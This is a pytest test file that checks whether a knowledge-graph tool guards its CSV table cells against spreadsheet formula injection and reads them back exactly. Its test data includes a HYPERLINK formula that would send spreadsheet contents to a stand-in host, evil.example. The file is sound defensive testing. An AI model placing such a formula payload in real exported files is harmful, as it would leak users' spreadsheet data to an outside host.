"""kg.tables: the CSV tables are safe to open in a spreadsheet (no cell runs as a formula) and read back
exactly (the guard comes off again)."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import kg
from kg.tables import (
    DOCUMENTS,
    ENCODING,
    ENTITIES,
    EVIDENCE,
    FORMULA_START,
    MENTIONS,
    RELATIONS,
    TABLES,
    DocumentRow,
    csv_field,
    guard_cell,
    guard_cells,
    read_document_rows,
    read_entity_rows,
    read_relation_rows,
    read_table,
    unguard_cell,
    write_documents,
)

#: Names a document or a lexicon can carry that a spreadsheet would run: every character OWASP lists.
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', "+新质", "-科技创新", "@SUM(1+1)", "\t=1+1", "\r=1+1", "'=1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_is_guarded_and_comes_back(value):
    assert guard_cell(value) == "'" + value
    assert unguard_cell(guard_cell(value)) == value


@pytest.mark.parametrize("value", ["新质生产力", "", "a=b", "1-2", "中-美"])
def test_plain_text_is_left_alone(value):
    assert guard_cell(value) is value and csv_field(value) is value  # the same object: the hot path allocates nothing


def test_csv_field_guards_then_quotes_as_the_csv_module_does():
    for value in [v for v in FORMULAS if "\r" not in v] + ["a,b", 'x"y', "line\nbreak", "=a,b"]:
        buf = io.StringIO()
        csv.writer(buf, lineterminator="\n").writerow(guard_cells([value]))
        assert csv_field(value) + "\n" == buf.getvalue()


def test_numbers_are_not_guarded():
    assert guard_cells([-0.25, -3, "-x", True, None]) == [-0.25, -3, "'-x", True, None]


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_any_text_round_trips(value):
    guarded = guard_cell(value)
    assert unguard_cell(guarded) == value
    assert not guarded.startswith(FORMULA_START)


# --- a build whose names, titles, file names and sentences start like formulas ----------------------------

@pytest.fixture(scope="module")
def formula_build(tmp_path_factory):
    """`kg build` of a file named =cmd.txt, titled =1+1…, with a user lexicon whose names and aliases start
    with = + - @, mentioned at the start of sentences."""
    from extractors.lexicon import load_lexicon
    from kg.build import BuildOptions, build
    from kg.graph import GraphOptions

    root = tmp_path_factory.mktemp("formulas")
    (root / "docs").mkdir()
    (root / "lex.tsv").write_text(f"{FORMULAS[0]}\tPolicy\t@SUM(1+1)|+新质\n-科技创新\tPolicy\n", encoding="utf-8")
    (root / "docs" / "=cmd.txt").write_text(
        f"=1+1标题\n\n-科技创新与{FORMULAS[0]}共同推进。@SUM(1+1)与-科技创新同时出现。\n\n+新质与-科技创新同时出现。\n",
        encoding="utf-8")
    lexicon = load_lexicon([root / "lex.tsv"])
    return build([root / "docs"], root / "out", lexicon, BuildOptions(graph=GraphOptions(min_count=1)))


def cells(path: Path):
    with open(path, encoding=ENCODING, newline="") as fh:
        rows = list(csv.reader(fh))
    return [(rows[0][i], cell) for row in rows[1:] for i, cell in enumerate(row)]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("table", [ENTITIES, RELATIONS, MENTIONS, EVIDENCE, DOCUMENTS])
def test_no_cell_of_a_table_starts_a_formula(formula_build, table):
    found = cells(formula_build.out / table)
    starts = [(column, cell) for column, cell in found if cell.startswith(FORMULA_START) and not is_number(cell)]
    assert starts == []
    assert any(cell.startswith("'") for _, cell in found), "the fixture puts a formula-like text in every table"


def test_the_tables_read_back_without_the_guard(formula_build):
    out = formula_build.out
    g = kg.load(out)
    assert set(g.entities["name"]) == {FORMULAS[0], "-科技创新"}
    assert set(g.entities["aliases"].dropna()) == {"@SUM(1+1) | +新质"}
    assert list(g.documents["id"]) == ["=cmd"] and list(g.documents["title"]) == ["=1+1标题"]
    assert {"-科技创新", "+新质"} <= set(g.mentions["text"])
    assert set(g.mentions["doc"]) == {"=cmd"} and all(s.startswith("=cmd#s") for s in g.mentions["sentence"])
    assert set(read_table(out, EVIDENCE)["doc"]) == {"=cmd"}
    assert g.neighbours("-科技创新")["name"].tolist() == [FORMULAS[0]]
    assert g.evidence("-科技创新", "@SUM(1+1)")["text"].str.contains("-科技创新").all()
    rel = read_relation_rows(out)
    assert {r.source_name for r in rel} | {r.target_name for r in rel} == {FORMULAS[0], "-科技创新"}
    assert all(ref.startswith("=cmd#s") for r in rel for ref in r.evidence_refs)
    assert {e.name for e in read_entity_rows(out)} == {FORMULAS[0], "-科技创新"}
    assert [d.id for d in read_document_rows(out)] == ["=cmd"]


def test_the_tables_agree_with_the_graph(formula_build):
    """What the guard takes off is exactly what it put on: the tables read back equal the graph built."""
    g = kg.load(formula_build.out)
    graph = formula_build.graph
    assert {(n, d["name"]) for n, d in graph.nodes(data=True)} == set(zip(g.entities["id"], g.entities["name"]))


def test_every_table_is_guarded():
    assert set(TABLES) == {ENTITIES, RELATIONS, MENTIONS, EVIDENCE, DOCUMENTS}


def test_a_cell_starting_with_a_quote_keeps_it(tmp_path):
    rows = [DocumentRow("d1", "'quoted'.txt", "txt", "''两个", "@刊", "2024", "year", "path", 1, 1, 1, 0)]
    write_documents(rows, tmp_path / DOCUMENTS)
    assert read_document_rows(tmp_path) == rows
    assert "'''两个" in (tmp_path / DOCUMENTS).read_text(encoding=ENCODING)


def test_kg_query_csv_is_guarded_and_numbers_are_not(formula_build, capsys):
    from kg.cli import main

    assert main(["query", "neighbours", "-p", "name=-科技创新", "--format", "csv", str(formula_build.out)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["name"] for r in rows] == ["'" + FORMULAS[0]]
    assert is_number(rows[0]["npmi"])


def test_a_carriage_return_in_a_file_name_keeps_its_row(tmp_path):
    rows = [DocumentRow("a\rb", "docs/a\rb.txt", "txt", "标题", "", "", "", "", 1, 1, 1, 0)]
    write_documents(rows, tmp_path / DOCUMENTS)
    assert read_document_rows(tmp_path) == rows


def test_the_output_readme_explains_the_guard(formula_build):
    readme = (formula_build.out / "README.txt").read_text(encoding="utf-8")
    assert "behind a single quote" in readme and "remove one leading ' from text cells" in readme


def test_text_columns_stay_text(tmp_path, lexicon):
    """A document 0001 alone in every relation's documents, an evidence sentence of digits: read as written."""
    from kg.build import BuildOptions, build

    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "0001.txt").write_text("科技部推动新质生产力发展。科技部推动新质生产力发展。\n", encoding="utf-8")
    out = build([tmp_path / "docs"], tmp_path / "out", lexicon, BuildOptions()).out
    g = kg.load(out)
    assert set(g.relations["documents"]) == {"0001"} and set(g.mentions["doc"]) == {"0001"}
    assert {r.documents for r in read_relation_rows(out)} == {("0001",)}
